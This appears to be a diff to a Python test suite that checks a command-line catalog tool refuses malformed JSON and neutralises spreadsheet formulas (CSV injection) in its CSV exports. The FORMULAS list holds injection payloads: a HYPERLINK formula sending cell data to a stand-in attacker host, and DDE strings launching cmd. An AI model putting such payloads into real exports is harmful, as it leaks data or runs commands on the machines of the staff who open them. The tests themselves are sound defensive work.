@@ -397,6 +397,11 @@ CASES = [
          "prefix '../x' contains '/'"),
     case("explain-import-no-prefix", ["explain", "import", "{inp}/go-report.json"], "Missing option '--prefix'"),
     case("explain-import-inf", ["explain", "import", "{inp}/inf.json", "--prefix", "p"], "Infinity is not allowed"),
+    case("explain-import-lone-surrogate", ["explain", "import", "{inp}/surrogate-report.json", "--prefix", "p"],
+         "$.universe[0].symbol is text with a lone surrogate at character 4 (not valid Unicode)"),
+    case("explain-import-whole-number-beyond-float", ["explain", "import", "{inp}/huge-depth.json", "--prefix", "p"],
+         "$.universe[0].microstructure.depth_usd is out of range: a whole number of 401 digits"),
+    case("explain-show-lone-surrogate", ["explain", "show", "{inp}/surrogate-report.json"], "lone surrogate"),
     case("snapshot-config-bad-prefix", ["snapshot-config", "--prefix", "a b"], "prefix 'a b' contains ' '"),
     case("snapshot-config-empty-prefix", ["snapshot-config", "--prefix", ""], "prefix is empty"),
     case("demo-assets-negative", ["demo", "--assets", "-1"], "-1 is not in the range 0<=x<=100000"),
@@ -596,6 +601,11 @@ def arena(tmp_path: Path, base_dir: Path, catalog, writer) -> Arena:  # type: ig
     bad = json.loads(files["go-report.json"])
     bad["universe"][0]["decision"] = "maybe"
     files["bad-decision.json"] = json.dumps(bad).encode()
+    bad["universe"][0].update(decision="excluded", symbol="BTC\ud800")  # a JSON escape Python reads as a lone surrogate
+    files["surrogate-report.json"] = json.dumps(bad).encode()
+    bad["universe"][0]["symbol"] = "BTC-USD"
+    bad["universe"][0]["microstructure"]["depth_usd"] = 10**400  # a whole number no float holds
+    files["huge-depth.json"] = json.dumps(bad).encode()
     for name, data in files.items():
         (inp / name).write_bytes(data)
     (inp / "loop.json").symlink_to("loop.json")
@@ -736,3 +746,45 @@ def test_hostile_input_is_refused_with_one_line_and_writes_nothing(
 def test_the_wall_is_high_enough() -> None:
     assert len(CASES) >= 60
     assert len({p.id for p in CASES}) == len(CASES)
+
+
+# -- hostile text that is accepted: every CSV the product generates shows it, never runs it ------
+
+FORMULAS = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"BTC-USD")', "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-X",
+            "+1+cmd|' /C calc'!A0", "＝1+1"]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formulas_in_data_never_run_in_a_csv_and_stored_bytes_stay_as_given(
+    formula: str, run_cli, base_dir: Path, catalog: Any, tmp_path: Path
+) -> None:  # fmt: skip
+    """Issue 14, case 2: OWASP "CSV Injection". Compliance staff open these CSVs in a spreadsheet."""
+    from catalog.core.formats import csv_records
+
+    from helpers import runnable_cells
+
+    assert run_cli("hold", "add", "--prefix", "momentum*", "--reason", formula).exit_code == 0
+    listing = run_cli("hold", "ls", "--format", "csv")
+    assert listing.exit_code == 0 and runnable_cells(listing.stdout) == []
+    assert csv_records(listing.stdout.encode())[0]["reason"] == formula  # shown with a leading ', read back as given
+    assert json.loads(run_cli("hold", "ls", "--format", "json").stdout)["holds"][0]["reason"] == formula
+
+    report = json.loads((Path(__file__).resolve().parent / "golden" / "go-explain-1-asset.json").read_bytes())
+    report["universe"][0]["symbol"] = formula
+    report["universe"][0]["microstructure"]["exchange"] = formula
+    (tmp_path / "report.json").write_bytes(data := json.dumps(report).encode())
+    imported = run_cli("explain", "import", str(tmp_path / "report.json"), "--prefix", "scan", "--format", "json")
+    assert imported.exit_code == 0, imported.stderr
+    json_row, csv_row = json.loads(imported.stdout)["artifacts"]
+    assert (base_dir / json_row["path"]).read_bytes() == data  # evidence: byte for byte
+    derived = (base_dir / csv_row["path"]).read_bytes()
+    assert runnable_cells(derived) == []
+    (row,) = csv_records(derived)
+    assert row["symbol"] == row["exchange"] == formula
+
+    (tmp_path / "mine.csv").write_text(given := 'symbol,qty\n"' + formula.replace('"', '""') + '",1\n')
+    put = run_cli("put", str(tmp_path / "mine.csv"), "--type", "ledger", "--prefix", "mine", "--format", "json")
+    assert put.exit_code == 0, put.stderr
+    (stored,) = json.loads(put.stdout)["artifacts"]
+    assert (base_dir / stored["path"]).read_text() == given  # what a user puts is stored unchanged
+    assert run_cli("get", stored["path"]).stdout == given
